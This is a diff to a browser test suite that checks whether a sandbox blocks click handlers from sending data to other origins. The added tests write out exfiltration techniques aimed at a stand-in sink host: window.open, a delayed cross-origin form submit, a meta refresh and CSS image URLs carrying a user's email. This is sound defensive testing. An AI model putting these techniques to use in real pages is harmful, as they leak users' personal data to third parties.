@@ -366,8 +366,8 @@ describe('other channels a page handler sends data by', function () {
     await refusedKinds(await attack({ page, setup: inserting((url) => `<div><img alt="" src="${url}"></div>`, (root, markup) => root.append(new DOMParser().parseFromString(markup, 'text/html').body.firstElementChild!)) }));
   });
 
-  it("a style's background-image set from the handler carries the data", async () => {
-    await refusedKinds(await attack({ page, setup: inserting((url) => `url("${url}")`, (root, css) => (root.style.backgroundImage = css)) }));
+  it("a style's background-image set with setProperty from the handler carries the data", async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `url("${url}")`, (root, css) => root.style.setProperty('background-image', css)) }));
   });
 
   it('a <style> with @import added by the handler carries the data', async () => {
@@ -492,5 +492,49 @@ describe('the allowed ways out still work', function () {
     expect(run.blocked).to.deep.equal([]);
     const frame = run.root.querySelector('iframe')!;
     await waitFor(() => frame.contentWindow!.location.pathname.endsWith('shop-orders.html'), 'the frame to load the page');
+  });
+});
+
+// Round 3: effects a handler defers past the click (a timer), navigation by markup, and data
+// handed to another origin's frame.
+describe('deferred and indirect ways out', function () {
+  this.timeout(20_000);
+  const page = `${says('Click "Save".')}<label>Email <input id="email" value="ada@example.com"></label><button type="button" id="save">Save</button>`;
+  const later = (run: () => void) => (root: HTMLElement) => root.querySelector('#save')!.addEventListener('click', () => setTimeout(() => {
+    try {
+      run();
+    } catch {
+      // refused
+    }
+  }, 30));
+
+  it('window.open from a setTimeout the click started', async () => {
+    const opened: Array<Window | null> = [];
+    const run = await attack({ page, setup: later(() => opened.push(window.open(sink.url('/share?e=ada@example.com')))) });
+    for (const view of opened) view?.close();
+    expect(await sink.received()).to.deep.equal([]);
+    expect(opened.every((view) => view === null), 'no window opened').to.equal(true);
+    expect(run.blocked.length).to.be.greaterThan(0);
+  });
+
+  it('requestSubmit() from a setTimeout, of a form posting to another origin', async () => {
+    const run = await attack({
+      page: `${page}<form id="f" method="post" target="out" action="${sink.url('/collect')}"><input type="hidden" name="e" value="ada@example.com"></form><iframe name="out" style="width: 200px; height: 40px"></iframe>`,
+      setup: later(() => (document.querySelector('#f') as HTMLFormElement).requestSubmit()),
+    });
+    expect(await sink.received()).to.deep.equal([]);
+    expect(run.blocked.length).to.be.greaterThan(0);
+  });
+
+  it('a <meta http-equiv=refresh> to another origin inserted by the handler', async () => {
+    const run = await attack({ page, setup: (root) => root.querySelector('#save')!.addEventListener('click', () => root.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0; url=${sink.url('/landing')}">`)) });
+    expect(await sink.received(800)).to.deep.equal([]);
+    expect(run.blocked.length).to.be.greaterThan(0);
+    expect(location.href).to.include(window.location.origin);
+  });
+
+  it('a CSS image of the same origin with the data still loads (only other sites are judged)', async () => {
+    const run = await attack({ page, setup: (root) => root.querySelector('#save')!.addEventListener('click', () => root.insertAdjacentHTML('beforeend', `<img alt="" src="/favicon.ico?e=ada@example.com">`)) });
+    expect(run.blocked).to.deep.equal([]);
   });
 });
